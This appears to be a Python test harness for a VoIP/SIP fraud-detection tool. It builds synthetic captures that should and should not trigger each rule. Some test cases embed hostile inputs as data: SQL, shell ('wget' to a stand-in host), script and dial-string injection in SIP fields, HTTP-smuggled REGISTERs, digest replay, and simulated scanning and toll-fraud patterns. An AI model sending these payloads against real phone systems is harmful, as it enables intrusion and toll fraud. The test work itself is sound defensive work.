#!/usr/bin/env python3
"""One capture that breaks a rule and one that nearly does, written as the test runs: fraud_rules.py TOOL [RULE...].

PROOFS holds the pairs; rules that other tests prove are in doc/fraud-proofs.md with these."""
import base64
import json
import math
import pathlib
import struct
import sys
import tempfile

from fraud_unseen import IRSF, OTHER, SCOUT, THIEF, Pts, Vicious, guess, hosted, loot, office
from fraud_wire import HOUR, Leg, Make, Phone, Server, Wire, numbers_of, report_of

PROOFS = {}


def proves(rule):
    def keep(function):
        PROOFS[rule] = function
        return function
    return keep


def place(seed, **more):
    w = Wire(seed)
    site = hosted(w, phones=more.pop("phones", 8), hours=3, rate=4, **more)
    return w, site, site.begin + HOUR


def servers(w, n, first=60):
    return [Server(w, "198.51.100.%d" % (first + k)) for k in range(n)]


# --- who looks -------------------------------------------------------------------------------------------------------

@proves("FRAUD-001")
def scanner_by_name(broken):
    """The same scan, agreed upon in the policy."""
    w, site, t = place(1)
    Vicious(w, SCOUT).map(t, servers(w, 8), (2,))
    return w, "" if broken else '[site]\npentest = ["%s"]\n' % SCOUT


@proves("FRAUD-002")
def sipvicious_by_structure(broken):
    """A phone whose Call-IDs are decimal numbers, and nothing else."""
    w, site, t = place(2)
    if broken:
        Vicious(w, SCOUT, "Cisco/SPA504G-7.6.2e").war(t, site, [str(n) for n in range(990, 1020)], {p.user for p in site.phones})
    else:
        odd = Make("Sonos 3", "Via Max-Forwards From To Call-ID CSeq Contact User-Agent Auth Expires", lambda w: "z9hG4bK" + w.hex(9), lambda w, h: str(w.rnd.getrandbits(79)), lambda w: w.hex(6))
        for k in range(4):
            Phone(w, "1003", "91.10.4.7", odd).register(t + 700 * k, site)
    return w, ""


@proves("FRAUD-003")
def sippts_by_structure(broken):
    """An old device without the magic cookie, and nothing else."""
    w, site, t = place(3)
    if broken:
        for k, server in enumerate(servers(w, 6)):
            Pts(w, SCOUT, "Yealink SIP-T23G").ask(t + k, server, "OPTIONS", "100", answer=None)
    else:
        old = Make("VSX7000", "Via Max-Forwards From To Call-ID CSeq Contact User-Agent Auth Expires", lambda w: w.hex(12), lambda w, h: w.hex(9) + "@" + h, lambda w: w.hex(6))
        for k in range(4):
            Phone(w, "1003", "91.10.4.7", old).register(t + 700 * k, site)
    return w, ""


HELLO = bytes.fromhex("16030100350100003103030102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f20000004c02fc030010000040017 0000".replace(" ", ""))


@proves("FRAUD-004")
def what_listens_there(broken):
    """A browser's WebSocket to the same server, and TLS that came to nothing, again and again with one offer."""
    w, site, t = place(4)
    tls = (site.address, 5061)
    w.send(t, (SCOUT, 40001), tls, HELLO, "tcp")
    if broken:
        w.send(t + 3, (SCOUT, 40002), tls, "GET / HTTP/1.0\r\n\r\n", "tcp")
    else:
        for k in range(6):
            w.send(t + 60 * k, (SCOUT, 40010 + k), tls, HELLO, "tcp")
        w.send(t + 3, (SCOUT, 40002), (site.address, 5060), "GET /ws HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
               "Sec-WebSocket-Protocol: sip\r\nSec-WebSocket-Version: 13\r\n\r\n", "tcp")
        w.send(t + 4, (SCOUT, 40003), (site.address, 8080), "GET / HTTP/1.0\r\n\r\n", "tcp")
    return w, ""


@proves("FRAUD-005")
def five_hosts_in_a_minute(broken):
    """Four."""
    w, site, t = place(5)
    for k, server in enumerate(servers(w, 5 if broken else 4)):
        Phone(w, "100", SCOUT, "pjsip").ask(t + 5 * k, server, "OPTIONS", None)
    return w, ""


@proves("FRAUD-006")
def five_ports_in_a_minute(broken):
    """Four."""
    w, site, t = place(6)
    for k in range(5 if broken else 4):
        Phone(w, "100", SCOUT, "pjsip").ask(t + 5 * k, Server(w, site.address, 5060 + k), "OPTIONS", None)
    return w, ""


@proves("FRAUD-007")
def twenty_addresses_of_record(broken):
    """As many phones that come back after an outage."""
    w, site, t = place(7, phones=24)
    for k in range(24):
        if broken:
            Phone(w, str(3000 + k), SCOUT, "pjsip").ask(t + 10 * k, site, "REGISTER", None)
        else:
            site.phones[k].register(t + k, site, fresh=True)
    return w, ""


@proves("FRAUD-008")
def five_users_are_called(broken):
    """Four."""
    w, site, t = place(8)
    for k in range(5 if broken else 4):
        Phone(w, "100", SCOUT, "pjsip").ask(t + 30 * k, site, "INVITE", "404 Not Found", user=str(5000 + k))
    return w, ""


@proves("FRAUD-009")
def six_sources_of_one_make(broken):
    """Four."""
    w, site, t = place(9)
    odd = Make("Phone 1", "Via CSeq To From Call-ID User-Agent Max-Forwards Contact", lambda w: "z9hG4bK" + w.hex(7), lambda w, h: w.hex(11), lambda w: w.hex(5))
    for k in range(24):
        Phone(w, "100", "45.9.%d.7" % (k % (6 if broken else 4)), odd).ask(t + 200 * k, Server(w, "198.51.100.%d" % (60 + k)), "OPTIONS", None)
    return w, ""


# --- who guesses -----------------------------------------------------------------------------------------------------

@proves("FRAUD-012")
def eight_accounts(broken):
    """Seven."""
    w, site, t = place(12, phones=12)
    for k in range(8 if broken else 7):
        guess(w, t + 20 * k, site, OTHER, str(1001 + k))
    return w, ""


@proves("FRAUD-014")
def leaked_pairs(broken):
    """An office that comes back after an outage with one refusal each."""
    w, site, t = place(14, phones=24)
    for k in range(45 if broken else 24):
        if broken:
            guess(w, t + 9 * k, site, OTHER, "anna.%s" % w.word(5), "linphone", missing=k % 3 != 0, right=k == 21, port=7000 + k)
        else:
            site.phones[k].register(t + k, site, "503 Service Unavailable", fresh=True)
            site.phones[k].register(t + 40 + k, site, fresh=True)
    return w, ""


@proves("FRAUD-015")
def many_sources_guess_one_account(broken):
    """A user with the wrong password at home and on the road: two sources."""
    w, site, t = place(15)
    for k in range(24):
        guess(w, t + 200 * k, site, "45.9.%d.7" % (k % (6 if broken else 2)), "1003", "microsip" if broken else "yealink", word="w%d" % k if broken else "old")
    return w, ""


@proves("FRAUD-016")
def six_failures_then_success(broken):
    """The phone whose password is set right after it failed at a steady pace."""
    w, site, t = place(16)
    for k in range(12):
        if broken:
            guess(w, t + 4 * k, site, OTHER, "1003", "microsip", right=k == 11, word="w%d" % k)
    if not broken:
        phone = site.phones[2]
        for k in range(12):
            phone.register(t + 60 * k, site, "401 Unauthorized", fresh=True, password="old")
        phone.register(t + 800, site, fresh=True)
    return w, ""


@proves("FRAUD-017")
def a_digest_comes_again(broken):
    """Its own retransmission."""
    w, site, t = place(17)
    owner = site.phones[4]
    owner.register(t, site, fresh=True)
    heard = w.heard(t, b"Authorization", dst=site.at)
    if not broken:
        w.send(t + .5, owner.at, site.at, heard)
        site.answer(t + .51, heard, "200 OK", owner.at)
        return w, ""
    text = heard.replace(owner.local, OTHER).replace("branch=z9hG4bK", "branch=z9hG4bKx")
    w.send(t + 400, (OTHER, 5060), site.at, text)
    site.answer(t + 400.01, text, "200 OK", (OTHER, 5060), ["Contact: <sip:%s@%s:5060>;expires=3600" % (owner.user, OTHER)])
    return w, ""


@proves("FRAUD-018")
def challenged_within_a_call(broken):
    """By the partner whom the policy names."""
    w, site, t = place(18)
    phone, evil = site.phones[0], Phone(w, "100", OTHER, "short", 5066)
    leg = Leg(w, evil, phone.at, "sip:%s@%s" % (phone.user, phone.at[0]), name=phone.make.agent)
    leg.start(t)
    leg.ring(t + .2)
    leg.take(t + 4)
    leg.draw_out(t + 12, "407 Proxy Authentication Required", 'Proxy-Authenticate: Digest realm="asterisk", nonce="1f2e", algorithm=MD5')
    return w, "" if broken else '[site]\npeers = ["%s"]\n' % OTHER


@proves("FRAUD-020")
def one_more_contact(broken):
    """An app on a mobile telephone, woken by push messages."""
    w, site, t = place(20)
    phone = site.phones[3]
    other = Phone(w, phone.user, OTHER, "microsip", 5066)
    contact = other.contact if broken else other.contact.replace(">", ";pn-provider=fcm;pn-prid=abc>")
    for k in range(5):
        phone.register(t + 600 * k, site)
    other.register(t + 3100, site, contact=contact, bindings=[phone.contact, contact])
    phone.register(t + 3600, site, bindings=[phone.contact, contact])
    return w, ""


@proves("FRAUD-021")
def bindings_removed(broken):
    """By the phone itself."""
    w, site, t = place(21)
    phone = site.phones[3]
    phone.register(t, site)
    (Phone(w, phone.user, OTHER, "microsip", 5065) if broken else phone).register(t + 60, site, expires=0, contact="*")
    return w, ""


# --- floods and broken messages --------------------------------------------------------------------------------------

@proves("FRAUD-025")
def twenty_requests_a_second(broken):
    """Ten."""
    w, site, t = place(25)
    rate, caller = (20, 10)[not broken], Phone(w, "100", SCOUT, "pjsip")
    for k in range(30 * rate):
        caller.ask(t + k / rate, site, "OPTIONS", "200 OK" if k % 3 else None)
    return w, ""


@proves("FRAUD-027")
def a_number_that_rings_without_end(broken):
    """A fifth as many calls, spread over two hours."""
    w, site, t = place(27)
    for k in range(90 if broken else 18):
        site.arrive(t + (1.2 if broken else 400) * k, "+4930%08d" % w.rnd.randrange(10**8), site.phones[0], ring=25., talk=0, cancel=True)
    return w, ""


@proves("FRAUD-028")
def four_hundred_packets_a_second(broken):
    """A hundred."""
    w, site, t = place(28)
    rate = 400 if broken else 100
    w.rtp(t, (OTHER, 9000), (site.address, 10500), 12 * rate, rate, bytes(range(160)), kind=0)
    return w, ""


@proves("FRAUD-029")
def broken_in_many_ways(broken):
    """One device with one constant error."""
    w, site, t = place(29)
    ways = [("CSeq: 1 OPTIONS", "CSeq: x OPTIONS"), ("Content-Length: 0", "Content-Length: -5"), ("Max-Forwards: 70", "Max-Forwards: many"), ("Call-ID:", "X-Id:"), (" SIP/2.0\r\n", " SIP/7.0\r\n")]
    for k in range(20):
        text = Phone(w, "100", OTHER, "pjsip").request("OPTIONS", "sip:a@%s" % site.address, "sip:a@%s" % site.address, w.hex(9), 1, "t%d" % k)
        w.send(t + 10 * k, (OTHER, 5060), site.at, text.replace(*ways[k % 5 if broken else 2]))
    return w, ""


def invite_of(w, site, t, user="1001", **more):
    name = more.pop("name", None)
    text = Phone(w, "100", OTHER, "pjsip").request("INVITE", "sip:%s@%s" % (user, site.address), "sip:1001@%s" % site.address, w.hex(9), 1, "tt", **more)
    w.send(t, (OTHER, 5060), site.at, text.replace("From: <", "From: %s <" % name) if name else text)


@proves("FRAUD-030")
def sql_in_a_name(broken):
    """O'Brien, and two hyphens."""
    w, site, t = place(30)
    invite_of(w, site, t, name='"a\' or 1=1 -- "' if broken else '"Pat O\'Brien -- Sales"')
    return w, ""


@proves("FRAUD-031")
def shell_in_a_user(broken):
    """Parameters of the URI behind semicolons, an ampersand in the name."""
    w, site, t = place(31)
    invite_of(w, site, t, "1001;wget%20http://a/b" if broken else "1001;phone-context=example.com", name=None if broken else '"Wget & Sons"')
    return w, ""


@proves("FRAUD-033")
def two_channels_in_a_user(broken):
    """A telephone number with a context, and a name that is an address."""
    w, site, t = place(33)
    for user in ("1001&PJSIP/0025261234567",) if broken else ("+4930123456;phone-context=example.com", "sips%3Auser%40example.com", "anna%40example.com"):
        invite_of(w, site, t, user)
        t += 5
    return w, ""


@proves("FRAUD-034")
def two_senders_in_one_request(broken):
    """A field that is folded, with blanks after the colon."""
    w, site, t = place(34)
    invite_of(w, site, t, more=["From: <sip:1002@%s>;tag=b" % site.address] if broken else ["Subject:   one\r\n two"])
    return w, ""


@proves("FRAUD-032")
def markup_for_a_console(broken):
    """A company's name with an ampersand and the signs of less and greater."""
    w, site, t = place(32)
    invite_of(w, site, t, name='"<script>alert(1)</script>"' if broken else '"R&D <-> Sales"')
    return w, ""


@proves("FRAUD-035")
def answers_of_three_times_the_size(broken):
    """Nine of them within a minute."""
    w, site, t = place(35)
    for k in range(10 if broken else 9):
        text = Phone(w, "100", "93.184.%d.34" % 5, "pjsip").request("OPTIONS", "sip:a@%s" % site.address, "sip:a@%s" % site.address, w.hex(9), 1, "t%d" % k)
        w.send(t + 4 * k, ("93.184.5.34", 5060), site.at, text)
        site.answer(t + 4 * k + .01, text, "200 OK", ("93.184.5.34", 5060), ["X-Info: " + "a" * 1500])
    return w, ""


@proves("FRAUD-036")
def sip_within_a_post(broken):
    """A POST without, a WebSocket, and SIP in a POST to the port of the web."""
    w, site, t = place(36)
    inner = "REGISTER sip:%s;transport=TCP SIP/2.0\r\nContact: <sip:a@10.0.0.7:9200>\r\n\r\n" % OTHER
    head = "POST / HTTP/1.1\r\nHost: %s:5060\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 4000\r\n\r\n" % OTHER
    padding = head + "x" * (1400 - len(head))  # the next segment begins with what follows
    w.send(t, ("10.1.0.9", 40100), (OTHER, 5060 if broken else 80), padding + inner, "tcp")
    if not broken:
        w.send(t + 5, ("10.1.0.9", 40101), (OTHER, 5060), padding + "a=b&c=d\r\n", "tcp")
    return w, ""


# --- who calls at the site's cost ------------------------------------------------------------------------------------

@proves("FRAUD-041")
def a_country_of_high_risk(broken):
    """One that the policy allows."""
    w, site, t = place(41)
    for k in range(3):
        site.out(t + 100 * k, site.phones[1], "+25261%07d" % (6000000 + k), ring=6, talk=200)
    return w, "" if broken else '[site]\ncountry = "DE"\nallowed_destinations = ["DE", "SO"]\n'


@proves("FRAUD-042")
def a_premium_number(broken):
    """A number in Dublin that begins alike, but is shorter."""
    w, site, t = place(42)
    for k in range(3):
        site.out(t + 100 * k, site.phones[1], "+3531550%06d" % k if broken else "+35315501%03d" % k, ring=6, talk=200)
    return w, ""


@proves("FRAUD-044")
def a_satellite_telephone(broken):
    """A mobile in France."""
    w, site, t = place(44)
    for k in range(3):
        site.out(t + 100 * k, site.phones[1], "+8821%07d" % (6000000 + k) if broken else "+3361234%04d" % k, ring=6, talk=200)
    return w, ""


@proves("FRAUD-047")
def calls_abroad_by_night(broken):
    """By day."""
    w = Wire(47)
    site = office(w, begin=1780272000 + 6 * HOUR)
    for k in range(6):
        site.out(1780272000 + (23.5 if broken else 11) * HOUR + 300 * k, site.phones[1], "+37167%06d" % (200 + k), ring=6, talk=240)
    return w, '[site]\ncountry = "DE"\ntimezone = "UTC"\nhours = "Mon-Fri 07:00-20:00"\n'


@proves("FRAUD-050")
def a_call_of_five_hours(broken):
    """Of three."""
    w, site, t = place(50)
    site.out(t, site.phones[1], "+37167200200", ring=6, talk=(5 if broken else .5) * HOUR)
    return w, ""


@proves("FRAUD-051")
def five_numbers_in_a_row(broken):
    """Four."""
    w, site, t = place(51)
    for k in range(5 if broken else 4):
        site.out(t + 60 * k, site.phones[1], "+49305550%04d" % (1000 + k), ring=6, talk=20)
    return w, ""


@proves("FRAUD-055")
def the_lure_is_called_back(broken):
    """Another number of that country is called."""
    w = Wire(55)
    site = office(w, phones=24)
    t = site.begin + 2 * HOUR
    for k in range(50):
        site.arrive(t + 11 * k, "+2325%07d" % (4000000 + 37 * (k % 3)), site.phones[(7 * k) % 24], ring=1.1, talk=0, cancel=True)
    site.out(t + 1500, site.phones[5], "+2325%07d" % (4000000 if broken else 7654321), ring=8, talk=180)
    return w, ""


def g711(sample):
    """One byte of PCMU."""
    sign, value = (0x80 if sample < 0 else 0), min(abs(int(sample)), 32635) + 132
    exponent = max(0, value.bit_length() - 8)
    return ~(sign | exponent << 4 | (value >> exponent + 3) & 15) & 255


def with_media(site, w, t, phone, number, far, near, seconds=6):
    """A call, answered after five seconds; far, near: 20 ms of PCMU by packet number."""
    site.out(t, phone, number, ring=5, talk=30)
    out = [one for one in w.said if one[0] >= t and one[2][0] == site.outside and one[3] == site.carrier and b"INVITE sip" in one[4]][-1]
    port = int(out[4].decode().split("m=audio ")[1].split()[0])
    answer = [one for one in w.said if one[0] >= t and one[2] == site.carrier and b"SIP/2.0 200" in one[4] and b"m=audio" in one[4]][-1]
    there = int(answer[4].decode().split("m=audio ")[1].split()[0])
    w.rtp(answer[0] + .01, (site.carrier[0], there), (site.outside, port), 50 * seconds, 50, far, ssrc=port, kind=0)
    w.rtp(answer[0] + .01, (site.outside, port), (site.carrier[0], there), 50 * seconds, 50, near, ssrc=there, kind=0)


def tone(*frequencies):
    return lambda k: bytes(g711(sum(5000 * math.sin(2 * math.pi * f * (160 * k + i) / 8000) for f in frequencies)) for i in range(160))


def voice(w):
    noise = [bytes(g711(9000 * w.rnd.uniform(-1, 1) * math.sin(i / 30)) for i in range(160)) for _ in range(10)]
    return lambda k: noise[k % 10]


@proves("FRAUD-053")
def ringing_goes_on_after_the_answer(broken):
    """Somebody says hello."""
    w, site, t = place(53)
    for k in range(4):
        with_media(site, w, t + 60 * k, site.phones[k], "+3716720%04d" % (100 + 7 * k), tone(440, 480) if broken else voice(w), voice(w), 4)
    return w, ""


@proves("FRAUD-053 silence")
def nobody_is_there(broken):
    """Nobody is heard on either side: such a capture says nothing."""
    w, site, t = place(153)
    for k in range(4):
        with_media(site, w, t + 60 * k, site.phones[k], "+3716720%04d" % (100 + 7 * k), b"\xff" * 160, voice(w) if broken else b"\xff" * 160, 4)
    return w, ""


@proves("FRAUD-057")
def a_stolen_account(broken):
    """Two calls of its owner to the same country by day."""
    w, site, t = place(57)
    if broken:
        loot(w, site, t, "1007", THIEF, numbers_of(w, IRSF, 25), (200, 400))
    else:
        for k in range(2):
            site.out(t + 200 * k, site.phones[6], "+25226%07d" % k, ring=8, talk=90)
    return w, ""


STIR = pathlib.Path(__file__).resolve().parents[2] / "testdata" / "stir"


def signature(text):
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec, utils
    key = serialization.load_pem_private_key((STIR / "keys/signer.key.pem").read_bytes(), None)
    return b"".join(part.to_bytes(32, "big") for part in utils.decode_dss_signature(key.sign(text.encode(), ec.ECDSA(hashes.SHA256()))))


def passport(number, sign=lambda text: bytes(range(1, 65))):
    """An Identity header field; nobody signed it, if nothing else is said."""
    part = lambda value: base64.urlsafe_b64encode(value if isinstance(value, bytes) else json.dumps(value, separators=(",", ":"), sort_keys=True).encode()).decode().rstrip("=")
    url = "https://certs.example/a.pem"
    claims = dict(attest="A", dest=dict(tn=["4969555"]), iat=1780300000, orig=dict(tn=number), origid="de305d54-75b4-431b-adb2-eb6b9e546014")
    token = "%s.%s" % (part(dict(alg="ES256", ppt="shaken", typ="passport", x5u=url)), part(claims))
    return "Identity: %s.%s;info=<%s>;alg=ES256;ppt=shaken" % (token, part(sign(token)), url)


@proves("FRAUD-058 STIR-019")
def signed_for_another_caller(broken):
    """The number as the signer writes it, without a plus."""
    w, site, t = place(58)
    for k in range(2):
        caller = "+4930%08d" % (22334400 + k)
        site.arrive(t + 100 * k, caller, site.phones[k], ring=5, talk=60, more=[passport("4930999111222" if broken else caller[1:])])
    return w, ""


@proves("FRAUD-058 STIR-022")
def signature_that_does_not_verify(broken):
    """One that does."""
    w, site, t = place(158)
    for k in range(2):
        caller = "+4930%08d" % (22334400 + k)
        site.arrive(t + 100 * k, caller, site.phones[k], ring=5, talk=60, more=[passport(caller[1:], (lambda text: signature(text + "x")) if broken else signature)])
    return w, "", {"--certs": b"https://certs.example/a.pem\t%s\n" % str(STIR / "chains/good.pem").encode()}


@proves("FRAUD-022")
def two_countries_within_the_hour(broken):
    """Two cities of one country. The places are a MaxMind DB."""
    w, site, t = place(22)
    phone = site.phones[2]
    for k in range(4):
        far = Phone(w, phone.user, ("91.11.4.9", "203.12.7.8")[k % 2], "linphone", 5060)
        far.register(t + 1800 * k, site)
    return w, "", {"--places": mmdb({"91.11.4": ("DE", 52.5, 13.4), "203.12.7": ("AU", -33.9, 151.2) if broken else ("DE", 48.1, 11.6)})}


def mmdb(networks):
    """A MaxMind DB of IPv4 networks of 24 bits (https://maxmind.github.io/MaxMind-DB/)."""
    def value(one):
        if isinstance(one, str):
            return bytes([2 << 5 | len(one)]) + one.encode()
        if isinstance(one, float):
            return bytes([3 << 5 | 8]) + struct.pack("!d", one)
        if isinstance(one, dict):
            return bytes([7 << 5 | len(one)]) + b"".join(value(k) + value(v) for k, v in one.items())
        if isinstance(one, list):
            return bytes([len(one), 4]) + b"".join(map(value, one))
        kind, number = one
        raw = number.to_bytes(8, "big").lstrip(b"\0")
        return (bytes([kind << 5 | len(raw)]) if kind < 8 else bytes([len(raw), kind - 7])) + raw

    tree, data = [[None, None]], b""
    for network, (country, north, east) in networks.items():
        bits = "".join("{:08b}".format(int(part)) for part in network.split("."))
        node = 0
        for bit in bits[:-1]:
            if tree[node][int(bit)] is None:
                tree[node][int(bit)] = len(tree)
                tree.append([None, None])
            node = tree[node][int(bit)]
        tree[node][int(bits[-1])] = -1 - len(data)
        data += value({"country": {"iso_code": country}, "location": {"latitude": north, "longitude": east}})
    record = lambda one: (len(tree) if one is None else one if one >= 0 else len(tree) + 16 + (-1 - one)).to_bytes(3, "big")
    about = {"binary_format_major_version": (5, 2), "binary_format_minor_version": (5, 0), "build_epoch": (9, 1780272000), "database_type": "Test-City", "description": {"en": "test"},
             "ip_version": (5, 4), "languages": ["en"], "node_count": (6, len(tree)), "record_size": (5, 24)}
    return b"".join(record(a) + record(b) for a, b in tree) + bytes(16) + data + b"\xab\xcd\xefMaxMind.com" + value(about)


@proves("FRAUD-068")
def another_device(broken):
    """The same theft with the program that the owner uses."""
    w, site, t = place(68)
    loot(w, site, t, site.phones[2].user, THIEF, numbers_of(w, IRSF, 25), (200, 400), make="microsip" if broken else site.phones[2].make)
    return w, ""


@proves("FRAUD-069")
def it_cost_money(broken):
    """Nobody answered."""
    w, site, t = place(69)
    how = {} if broken else dict(status="403 Forbidden")
    thief = Phone(w, "1007", THIEF, "microsip")
    thief.register(t - 30, site)
    for k, number in enumerate(numbers_of(w, IRSF, 12)):
        site.out(t + 20 * k, thief, number, ring=2, talk=200, **how)
    return w, ""


@proves("FRAUD-070")
def accounts_are_told(broken):
    """Without an account, none."""
    w = Wire(70)
    if broken:
        w, site, t = place(70)
    else:
        Phone(w, "100", SCOUT, "pjsip").ask(1780272000, Server(w, "198.51.100.5"), "OPTIONS", "200 OK")
    return w, ""


# --- run -------------------------------------------------------------------------------------------------------------

def scan(tool, folder, story, broken):
    w, policy, *beside = story(broken)
    capture, rules, more = folder / "story.pcap", folder / "policy.toml", []
    for option, content in (beside[0] if beside else {}).items():
        path = folder / option.strip("-")
        path.write_bytes(content)
        more += [option, str(path)]
    w.write(capture)
    rules.write_text(policy)
    return report_of(tool, *(["--policy", rules] if policy else []), *more, capture)


def fires(report, rule):
    if rule == "FRAUD-070":  # the table itself
        return bool(report["accounts"])
    if rule == "FRAUD-069":  # the estimate of an incident
        return any(one["estimated_cost"] and one["answered"] for one in report["incidents"])
    return any(one["id"] == rule for one in report["findings"])


if __name__ == "__main__":
    wrong = 0
    with tempfile.TemporaryDirectory() as scratch:
        for name, story in PROOFS.items():
            if sys.argv[2:] and name not in sys.argv[2:]:
                continue
            for broken in (True, False):
                report = scan(sys.argv[1], pathlib.Path(scratch), story, broken)
                if fires(report, name.split()[0]) != broken:
                    wrong += 1
                    print("%s (%s): %s; found %s" % (name, story.__name__, "does not fire" if broken else "fires without cause",
                                                     sorted({"%s %s" % (one["id"], one["severity"]) for one in report["findings"]})))
    print("%d rules, %d wrong" % (len(PROOFS), wrong))
    sys.exit(1 if wrong else 0)
